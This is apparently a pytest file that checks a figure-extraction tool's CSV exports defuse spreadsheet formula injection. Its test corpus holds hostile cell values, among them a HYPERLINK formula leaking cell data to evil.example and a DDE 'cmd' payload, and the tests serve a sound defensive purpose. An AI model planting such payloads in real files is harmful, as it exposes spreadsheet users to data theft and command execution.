"""Every CSV figcheck writes (CLI and dashboard export) neutralises spreadsheet formulas.

The hostile corpus puts formula starts where they reach the export: sentence starts, entity
words, titles, outlets, URLs and ids. Each export is read back with the csv module and every
cell checked.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

from conftest import ROOT

from extract.app.article_loading import articles_from_file, combine
from extract.app.figure_reading import spreadsheet_rows
from extract.engine.table_schema import COLUMNS
from extract.workspace.export import to_csv_bytes, to_spreadsheet_csv_bytes

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click") costs rose 9% last year.',
    "+cmd|' /C calc'!A0 said 40 firms shut.",
    "-2+3 shops closed, and 12 more are at risk.",
    "@SUM(A1:A9) workers earned 300 dollars.",
    "\t=1+1 tanks held 50 litres.",
    "\r=1+1 trains carried 70 people.",
]
RECORDS = [
    {"id": "=id1", "title": "=title()", "outlet": "+outlet", "date": "2025-01-02", "url": "@url",
     "text": HOSTILE_TEXTS[0]},
    *({"id": f"{start}id{i}", "title": "@t", "outlet": "-o", "text": text}
      for i, (start, text) in enumerate(zip(("-", "@", "+", "\t", "\r"), HOSTILE_TEXTS[1:], strict=False), 2)),
]


def _corpus_bytes() -> bytes:
    return "".join(json.dumps(record) + "\n" for record in RECORDS).encode()


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_every_cell_is_safe(csv_bytes: bytes, columns: list[str] = COLUMNS) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8"), newline="")))
    assert rows[0] == columns
    for row in rows[1:]:
        for cell in row:
            assert not (cell.startswith(FORMULA_STARTS) and not _is_number(cell)), repr(cell)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_cli_csv_on_stdout_and_in_a_file_neutralises_every_cell(tmp_path):
    corpus = tmp_path / "=corpus.jsonl"
    corpus.write_bytes(_corpus_bytes())
    stdout = subprocess.run([sys.executable, "-m", "extract", "figures", str(corpus)], cwd=ROOT,
                            capture_output=True, timeout=120)
    assert stdout.returncode == 0, stdout.stderr
    rows = assert_every_cell_is_safe(stdout.stdout)
    assert len(rows) >= len(RECORDS)
    assert {r["doc_id"] for r in rows} == {"'=id1", "'-id2", "'@id3", "'+id4", "'\tid5", "'\rid6"}  # kept, defused
    assert rows[0]["sentence"].startswith("'=HYPERLINK(")

    out = tmp_path / "figures.csv"
    written = subprocess.run([sys.executable, "-m", "extract", "figures", str(corpus), "-o", str(out)], cwd=ROOT,
                             capture_output=True, timeout=120)
    assert written.returncode == 0, written.stderr
    assert out.read_bytes() == stdout.stdout


def test_dashboard_export_neutralises_every_cell():
    loaded = combine([articles_from_file("=corpus.jsonl", _corpus_bytes())])
    spreadsheet = to_spreadsheet_csv_bytes(spreadsheet_rows(loaded.table, COLUMNS))
    assert spreadsheet.startswith(b"\xef\xbb\xbf")
    lead = ["doc_id", "doc_title", "figure_id"]
    spreadsheet_rows_read = assert_every_cell_is_safe(
        spreadsheet[3:], [*lead, "figure"] + [c for c in COLUMNS if c not in lead])
    assert {r["figure_id"][:4] for r in spreadsheet_rows_read} == {"'=id", "'-id", "'@id", "'+id", "'\tid", "'\rid"}
    rows = assert_every_cell_is_safe(to_csv_bytes(loaded.table[COLUMNS]))
    assert {r["doc_title"] for r in rows} == {"'=title()", "'@t"}
    assert {r["doc_outlet"] for r in rows} == {"'+outlet", "'-o"}
    assert sum(r["sentence"].startswith("'=1+1") for r in rows) >= 2  # tab/CR starts are outside the sentence
    # Negative numbers are data, not formulas: they are written as they are.
    assert all(not r["value"].startswith("'") for r in rows)
